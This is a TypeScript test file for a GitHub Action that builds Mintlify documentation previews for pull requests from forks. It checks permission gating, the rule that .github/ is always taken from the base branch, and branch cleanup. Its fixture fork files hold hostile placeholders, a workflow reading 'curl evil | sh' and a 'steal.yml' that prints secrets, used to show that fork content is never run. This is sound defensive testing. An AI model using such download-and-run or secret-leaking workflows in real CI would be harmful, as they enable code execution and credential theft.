/**
 * Fork pull requests (interface section 4, "Fork pull requests"), on the bundle against the local mock API: a
 * writer's `/preview` writes `mintlify-preview/pr-<number>` through the Git data API (the fork's files, `.github/`
 * from the base branch) and previews it; anyone else is turned away before any request to Mintlify; a fork's own
 * events send nothing; a closed pull request's branch is deleted. Nothing of the fork is checked out or run: the
 * run's workspace never holds a file of it.
 */
import { existsSync } from 'node:fs'
import * as path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { branchFiles, type MockApi, seedComment, seedCommit, startMockApi } from '../../local/mock-api.ts'
import { ROOT, type RunResult } from '../../local/run-action.ts'
import { runPreview, workspaceFiles } from '../helpers/e2e.js'
import { commentEvent, pullEvent } from '../helpers/preview-events.js'

const BUILT = existsSync(path.join(ROOT, 'dist/preview/index.js')) && existsSync(path.join(ROOT, 'preview/action.yml'))
const BRANCH = 'mintlify-preview/pr-12'
const MARKER = '<!-- mintlify-preview -->'
const BOT = { login: 'github-actions[bot]', type: 'Bot' }
const MAINTAINER = { login: 'maintainer', type: 'User' }

const BASE_FILES = {
  '.github/workflows/ci.yml': 'base: lint only',
  'docs/index.mdx': 'base index',
  'docs.json': '{"name":"base"}',
}
const FORK_FILES = {
  '.github/workflows/ci.yml': 'fork: curl evil | sh',
  '.github/workflows/steal.yml': 'fork: print secrets',
  'docs/index.mdx': 'fork index',
  'docs/new.mdx': 'a new page',
  'docs.json': '{"name":"fork"}',
}

let api: MockApi
let forkSha: string
beforeEach(async () => {
  api = await startMockApi({
    github: {
      roles: { maintainer: 'maintain', reader: 'read' },
      pulls: { 12: { head: 'docs/x', base: 'main', repo: 'fork/app', title: 'Docs: the flag' } },
    },
    deploy: { statuses: ['queued', 'success'] },
  })
  seedCommit(api.github, { repo: 'acme/app', branch: 'main', files: BASE_FILES })
  forkSha = seedCommit(api.github, { repo: 'fork/app', branch: 'docs/x', files: FORK_FILES, message: 'Fork: the flag' })
})
afterEach(() => api.close())

const deployRequests = () => api.requests.filter((q) => q.path.startsWith('/v1/'))
const gitRequests = () => api.requests.filter((q) => q.path.includes('/git/'))
const comments = () => api.github.comments?.[12] ?? []
const failure = (r: RunResult) => r.stdout.split('\n').find((l) => l.startsWith('::error::')) ?? ''

/** The run left nothing of the fork in its workspace: no checkout, no file of it. */
function expectNoForkFiles(r: RunResult) {
  const text = Object.values(workspaceFiles(r.workspace)).join('\n')
  for (const content of Object.values(FORK_FILES)) expect(text).not.toContain(content)
}

describe.skipIf(!BUILT)('fork pull requests on the bundle', () => {
  it('a writer’s /preview writes the branch (the fork’s files, .github/ from the base), previews it, and names the fork’s commit', async () => {
    const r = await runPreview(api, {}, { event: commentEvent('/preview', MAINTAINER) })
    expect(r.code).toBe(0)

    // The tree request: the fork's entries by id, `.github` the base's; no file content sent, no base_tree.
    const trees = gitRequests().filter((q) => q.method === 'POST' && q.path.endsWith('/git/trees'))
    expect(trees).toHaveLength(1)
    const sent = JSON.parse(trees[0]?.body ?? '{}') as { base_tree?: string; tree: Array<Record<string, string>> }
    expect(sent.base_tree).toBeUndefined()
    const byPath = Object.fromEntries(sent.tree.map((e) => [e.path, e]))
    expect(sent.tree.map((e) => e.path).sort()).toEqual(['.github', 'docs', 'docs.json'])
    expect(sent.tree.every((e) => e.content === undefined && /^[0-9a-f]{40}$/.test(e.sha ?? ''))).toBe(true)
    const top = (repo: string, branch: string) => {
      const git = api.github.git
      const commit = git?.objects.get(git.refs[repo]?.[branch] ?? '')
      const tree = commit?.type === 'commit' ? git?.objects.get(commit.tree) : undefined
      return Object.fromEntries((tree?.type === 'tree' ? tree.entries : []).map((e) => [e.name, e.sha]))
    }
    expect(byPath['.github']?.sha).toBe(top('acme/app', 'main')['.github'])
    expect(byPath.docs?.sha).toBe(top('fork/app', 'docs/x').docs)
    expect(byPath['docs.json']?.sha).toBe(top('fork/app', 'docs/x')['docs.json'])

    // The branch: the fork's files, the base's workflows, on top of the base branch.
    expect(branchFiles(api.github, 'acme/app', BRANCH)).toEqual({
      '.github/workflows/ci.yml': 'base: lint only',
      'docs/index.mdx': 'fork index',
      'docs/new.mdx': 'a new page',
      'docs.json': '{"name":"fork"}',
    })
    const head = api.github.git?.objects.get(api.github.git.refs['acme/app']?.[BRANCH] ?? '')
    expect(head?.type === 'commit' && head.parents).toEqual([api.github.git?.refs['acme/app']?.main])

    // Then exactly one preview of that branch.
    expect(deployRequests().filter((q) => q.method === 'POST')).toEqual([
      expect.objectContaining({ path: '/v1/project/preview/proj_1', body: `{"branch":"${BRANCH}"}` }),
    ])
    expect(r.outputs).toMatchObject({ branch: BRANCH, status: 'success' })
    expect(comments()).toHaveLength(1)
    expect(comments()[0]?.body).toContain(`From the fork: commit \`${forkSha.slice(0, 12)}\``)
    expect(r.summary).toContain(`From the fork: commit \`${forkSha.slice(0, 12)}\``)
    // Named once: the preview branch's own commit (whose message names it too) is not shown beside it.
    for (const text of [comments()[0]?.body ?? '', r.summary]) {
      expect(text.split(forkSha.slice(0, 12))).toHaveLength(2)
      expect(text).not.toContain('Preview of pull request')
    }
    expect(r.stdout).toContain(`of the fork, the head of pull request #12`)
    expectNoForkFiles(r)
  })

  it('asked again after a push, it moves the branch (force) to the fork’s new head', async () => {
    await runPreview(api, {}, { event: commentEvent('/preview', MAINTAINER) })
    seedCommit(api.github, { repo: 'fork/app', branch: 'docs/x', files: { ...FORK_FILES, 'docs/new.mdx': 'pushed' } })
    const r = await runPreview(api, {}, { event: commentEvent('/preview', MAINTAINER) })
    expect(r.code).toBe(0)
    expect(branchFiles(api.github, 'acme/app', BRANCH)?.['docs/new.mdx']).toBe('pushed')
    const patch = gitRequests().find((q) => q.method === 'PATCH')
    expect(JSON.parse(patch?.body ?? '{}')).toMatchObject({ force: true })
    expect(comments()).toHaveLength(1)
  })

  it('a 403 writing the branch fails the step naming contents: write, before any request to Mintlify', async () => {
    api.fault({
      method: 'POST',
      path: '/git/trees',
      status: 403,
      json: { message: 'Resource not accessible by integration' },
    })
    const r = await runPreview(api, {}, { event: commentEvent('/preview', MAINTAINER) })
    expect(r.code).toBe(1)
    expect(failure(r)).toContain('HTTP 403')
    expect(failure(r)).toContain('needs permissions: contents: write')
    expect(deployRequests()).toEqual([])
  })

  it('a truncated tree listing is a clear error, and nothing is sent to Mintlify', async () => {
    const git = api.github.git
    if (git) git.maxTreeEntries = 2 // the top of each tree holds 3 entries
    const r = await runPreview(api, {}, { event: commentEvent('/preview', MAINTAINER) })
    expect(r.code).toBe(1)
    expect(failure(r)).toContain('GitHub cut the listing (truncated)')
    expect(deployRequests()).toEqual([])
  })

  it('someone without write permission, or a bot, is turned away before any request to Mintlify or any write', async () => {
    for (const user of [{ login: 'reader', type: 'User' }, BOT]) {
      const r = await runPreview(api, {}, { event: commentEvent('/preview', user) })
      expect(r.code).toBe(0)
      expect(r.outputs.status).toBe('skipped')
    }
    expect(deployRequests()).toEqual([])
    expect(gitRequests()).toEqual([])
    expect(api.github.git?.refs['acme/app']?.[BRANCH]).toBeUndefined()
  })

  it('deployment: production on a comment trigger is a bad input, before any request', async () => {
    const r = await runPreview(api, { deployment: 'production' }, { event: commentEvent('/preview', MAINTAINER) })
    expect(r.code).toBe(1)
    expect(failure(r)).toContain('::error::Input deployment:')
    expect(deployRequests()).toEqual([])
    expect(gitRequests()).toEqual([])
  })

  for (const name of ['pull_request', 'pull_request_target'])
    it(`a fork’s own ${name} events send nothing to Mintlify, and the one comment says how a maintainer asks`, async () => {
      for (const action of ['opened', 'synchronize']) {
        const r = await runPreview(api, {}, { event: pullEvent({ name, action, sha: forkSha, from: 'fork/app' }) })
        expect(r.code).toBe(0)
        expect(r.outputs.status).toBe('skipped')
      }
      expect(deployRequests()).toEqual([])
      expect(gitRequests()).toEqual([])
      expect(comments()).toHaveLength(1)
      expect(comments()[0]?.body).toContain('A maintainer can comment `/preview` on this pull request to preview it')
    })

  it('a fork’s pull_request_target events send nothing with deployment: production or a branch set either', async () => {
    for (const inputs of [{ deployment: 'production' }, { branch: 'docs/x' }] as Record<string, string>[])
      for (const action of ['opened', 'synchronize']) {
        const event = pullEvent({ name: 'pull_request_target', action, sha: forkSha, from: 'fork/app' })
        const r = await runPreview(api, inputs, { event })
        expect(r.code).toBe(0)
        expect(r.outputs.status).toBe('skipped')
      }
    expect(deployRequests()).toEqual([])
    expect(gitRequests()).toEqual([])
  })

  it('a pull request whose head repository has no name is taken for a fork’s: nothing is sent', async () => {
    const event = pullEvent({ name: 'pull_request_target', sha: forkSha })
    const payload = event?.payload as { pull_request: { head: { repo: unknown } } }
    payload.pull_request.head.repo = { id: 1 }
    const r = await runPreview(api, {}, { event })
    expect(r.code).toBe(0)
    expect(r.outputs.status).toBe('skipped')
    expect(deployRequests()).toEqual([])
    expect(comments()[0]?.body).toContain('this pull request comes from a fork')
  })

  it('closed with a branch set still cleans up and previews nothing', async () => {
    await runPreview(api, {}, { event: commentEvent('/preview', MAINTAINER) })
    const before = deployRequests().length
    const event = pullEvent({ name: 'pull_request_target', action: 'closed', sha: forkSha, from: 'fork/app' })
    const r = await runPreview(api, { branch: 'docs/x' }, { event })
    expect(r.code).toBe(0)
    expect(r.outputs.status).toBe('skipped')
    expect(api.github.git?.refs['acme/app']?.[BRANCH]).toBeUndefined()
    expect(deployRequests()).toHaveLength(before)
  })

  it('pull_request_target closed deletes the branch and edits the comment: the preview stays in the dashboard', async () => {
    await runPreview(api, {}, { event: commentEvent('/preview', MAINTAINER) })
    expect(api.github.git?.refs['acme/app']?.[BRANCH]).toBeDefined()
    const before = deployRequests().length
    const r = await runPreview(
      api,
      {},
      { event: pullEvent({ name: 'pull_request_target', action: 'closed', sha: forkSha, from: 'fork/app' }) },
    )
    expect(r.code).toBe(0)
    expect(r.outputs.status).toBe('skipped')
    expect(api.github.git?.refs['acme/app']?.[BRANCH]).toBeUndefined()
    expect(deployRequests()).toHaveLength(before)
    expect(comments()).toHaveLength(1)
    expect(comments()[0]?.body).toContain(`The branch \`${BRANCH}\` that previewed it was deleted.`)
    expect(comments()[0]?.body).toContain('stays in the Mintlify dashboard until someone deletes it there')
    expect(r.outputs['comment-url']).toBe(comments()[0]?.html_url ?? 'missing')
  })

  it('a /preview on a closed or merged pull request writes no branch and sends nothing: it ends skipped', async () => {
    await runPreview(api, {}, { event: commentEvent('/preview', MAINTAINER) })
    await runPreview(
      api,
      {},
      { event: pullEvent({ name: 'pull_request_target', action: 'closed', sha: forkSha, from: 'fork/app' }) },
    )
    const pull = api.github.pulls?.[12]
    if (pull) Object.assign(pull, { state: 'closed', merged: true })
    const before = { deploys: deployRequests().length, writes: gitRequests().filter((q) => q.method !== 'GET').length }
    const r = await runPreview(api, {}, { event: commentEvent('/preview', MAINTAINER) })
    expect(r.code).toBe(0)
    expect(r.outputs.status).toBe('skipped')
    expect(r.stdout).toContain('Pull request #12 is closed; nothing to preview.')
    expect(r.stdout).toContain('Reopen it and comment /preview again to preview it.')
    expect(api.github.git?.refs['acme/app']?.[BRANCH]).toBeUndefined()
    expect(gitRequests().filter((q) => q.method !== 'GET')).toHaveLength(before.writes)
    expect(deployRequests()).toHaveLength(before.deploys)
    expect(comments()).toHaveLength(1)
  })

  it('closed with no branch and no comment: deletes nothing and posts nothing', async () => {
    seedComment(api.github, 12, { body: `A person quoting\n\n${MARKER}`, user: { login: 'octocat', type: 'User' } })
    const r = await runPreview(
      api,
      {},
      { event: pullEvent({ name: 'pull_request_target', action: 'closed', sha: forkSha, from: 'fork/app' }) },
    )
    expect(r.code).toBe(0)
    expect(r.outputs.status).toBe('skipped')
    expect(gitRequests().map((q) => q.method)).toEqual(['GET'])
    expect(comments()).toHaveLength(1)
    expect(comments()[0]?.body).toBe(`A person quoting\n\n${MARKER}`)
    expect(deployRequests()).toEqual([])
  })
})
